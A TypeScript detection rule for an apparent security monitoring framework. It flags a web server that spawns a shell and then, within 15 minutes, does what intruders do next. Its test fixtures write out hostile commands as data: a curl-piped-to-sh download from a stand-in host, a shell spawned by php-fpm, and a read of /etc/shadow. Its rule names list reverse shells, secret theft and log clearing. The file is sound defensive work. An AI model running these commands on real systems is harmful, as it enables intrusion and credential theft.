import { defineDetection } from '@cws/core'
import { accountFileEdited, sudoersChanged } from '../rules/accounts.ts'
import { databaseDumped, secretCopiedElsewhere } from '../rules/carried-off.ts'
import { secretSentAway, torStarted, tunnelProgram } from '../rules/connections.ts'
import { leftRunning } from '../rules/dropped.ts'
import { decoderPipedToShell, downloadPipedToShell } from '../rules/droppers.ts'
import { rootHookChanged, setIdBitGiven, shellCopied } from '../rules/footholds.ts'
import { cryptominer, securityToolStopped } from '../rules/impact.ts'
import { strangeModuleLoaded } from '../rules/kernel.ts'
import { execFromMemory, execFromMemoryFileSystem, executedFileUnlinked, hiddenExecutable } from '../rules/odd-programs.ts'
import { scheduledTaskChanged, sshAccessChanged, startupScriptChanged, systemdUnitChanged } from '../rules/persistence.ts'
import { preloadFromWritableFolder, setIdExploit } from '../rules/privileges.ts'
import { reverseShell, reverseShellByInterpreter, reverseShellByNetcat } from '../rules/reverse-shells.ts'
import { cloudCredentialsOpened, passwordHashesOpened, privateKeyOpened } from '../rules/secrets.ts'
import { securityToolKilled, securityToolRemoved } from '../rules/security-tools.ts'
import { reconFromWebServer, shellFromDatabase, shellFromJavaServer, shellFromWebServer } from '../rules/server-shells.ts'
import { downloadFromServer, shellFromNetworkService, temporaryProgramFromServer } from '../rules/servers.ts'
import { preloadChanged, setIdBitSet } from '../rules/system-files.ts'
import { historyRemoved, logCleared, logReplaced } from '../rules/traces.ts'

/** A server does what only somebody who has got into it makes it do. */
const ENTRY = [shellFromWebServer, reconFromWebServer, shellFromDatabase, shellFromJavaServer, shellFromNetworkService, downloadFromServer]
/** What is done with a host that one has got into. */
const USE = [
  ...[reverseShell, reverseShellByNetcat, reverseShellByInterpreter, tunnelProgram, torStarted, secretSentAway],
  ...[temporaryProgramFromServer, decoderPipedToShell, downloadPipedToShell, execFromMemory, execFromMemoryFileSystem],
  ...[executedFileUnlinked, hiddenExecutable, setIdExploit, preloadFromWritableFolder, setIdBitSet, strangeModuleLoaded],
  ...[passwordHashesOpened, privateKeyOpened, cloudCredentialsOpened],
  ...[scheduledTaskChanged, systemdUnitChanged, sshAccessChanged, startupScriptChanged, preloadChanged, accountFileEdited, sudoersChanged],
  ...[cryptominer, securityToolStopped, securityToolKilled, securityToolRemoved, historyRemoved, logCleared, logReplaced],
  ...[setIdBitGiven, shellCopied, rootHookChanged, leftRunning, secretCopiedElsewhere, databaseDumped],
]

const SHELL = {
  on: 'exec',
  'exec.file.name': 'dash',
  'exec.comm': 'sh',
  'exec.args': '-c id',
  'process.ancestors.file.name': ['php-fpm8.2', 'systemd'],
  'process.ancestors.file.path': ['/usr/sbin/php-fpm8.2', '/usr/lib/systemd/systemd'],
  'process.ancestors.pid': [700, 1],
} as const
const FETCHED = { ...SHELL, 'exec.args': '-c curl -fsSL http://203.0.113.5/x.sh | sh' } as const

export const breakInUsed = defineDetection({
  id: 'break-in-used',
  name: 'A server was broken into, and the way in was used',
  severity: 'critical',
  tags: ['mitre:T1190', 'mitre:T1059'],
  kind: 'sequence',
  steps: [ENTRY, USE],
  by: ['tree'],
  within: '15m',
  message:
    'A server started what servers do not start, and within {{within}} the same service did what intruders do next; the last of it was done by {{author}}. `findings` has both.',
  advice:
    'Take the host off the network and keep it running. See what was changed since, and how the server was entered; do not trust its secrets any more.',
  benign: ['Plugins and updaters of web applications that run installers, where the first of the two rules is not tuned to it'],
  tests: {
    fires: [
      [SHELL, FETCHED],
      [
        SHELL,
        {
          on: 'open',
          'open.file.path': '/etc/shadow',
          'process.file.path': '/usr/bin/cat',
          'process.ancestors.pid': [700, 1],
          after: '14m',
        },
      ],
    ],
    silent: [
      [SHELL, SHELL],
      [SHELL, { ...FETCHED, 'process.ancestors.pid': [800, 1], 'process.ancestors.file.name': ['bash', 'sshd'] }],
      [
        SHELL,
        {
          on: 'open',
          'open.file.path': '/etc/shadow',
          'process.file.path': '/usr/bin/cat',
          'process.ancestors.pid': [700, 1],
          after: '16m',
        },
      ],
    ],
  },
})
